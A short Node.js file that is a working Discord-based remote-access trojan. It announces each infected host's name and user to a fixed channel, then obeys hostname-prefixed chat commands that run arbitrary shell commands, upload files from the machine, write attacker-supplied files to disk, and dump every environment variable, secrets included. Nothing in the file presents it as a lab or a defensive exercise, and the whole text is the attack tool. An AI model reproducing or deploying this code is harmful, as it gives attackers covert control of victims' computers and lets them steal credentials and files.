const { Client, GatewayIntentBits, AttachmentBuilder } = require('discord.js');
const cp = require('child_process');
const fs = require('fs');
const os = require('os');

const client = new Client({ intents: [GatewayIntentBits.Guilds, GatewayIntentBits.GuildMessages, GatewayIntentBits.MessageContent] });
const prefix = '!' + os.hostname() + ' ';

const commands = {
  ping: (m) => m.reply('pong'),
  sh: (m, a) => cp.exec(a.join(' '), (e, out, err) => m.reply('```' + (out + err).slice(0, 1900) + '```')),
  get: (m, [f]) => m.reply({ files: [new AttachmentBuilder(f)] }),
  put: async (m, [f]) => fs.writeFileSync(f, Buffer.from(await (await fetch(m.attachments.first().url)).arrayBuffer())),
  env: (m) => m.reply('```' + JSON.stringify(process.env).slice(0, 1900) + '```'),
};

client.on('ready', () => client.channels.cache.get('1100000000000000000')?.send(`${os.hostname()} ${os.userInfo().username} up`));
client.on('messageCreate', (m) => {
  if (!m.content.startsWith(prefix)) return;
  const [cmd, ...args] = m.content.slice(prefix.length).split(' ');
  commands[cmd]?.(m, args);
});
client.login('MTEwplaceholder.token.value');
